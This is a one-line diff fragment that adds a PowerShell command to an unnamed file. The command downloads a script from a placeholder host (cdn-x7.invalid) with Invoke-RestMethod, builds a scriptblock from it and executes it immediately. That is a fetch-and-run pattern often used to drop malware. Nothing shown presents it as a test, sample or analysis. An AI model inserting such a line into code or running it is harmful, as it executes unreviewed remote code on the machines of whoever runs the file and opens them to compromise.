@@ -1,0 +1,1 @@
+Invoke-Command -ScriptBlock ([scriptblock]::Create((irm https://cdn-x7.invalid/a.ps1)))
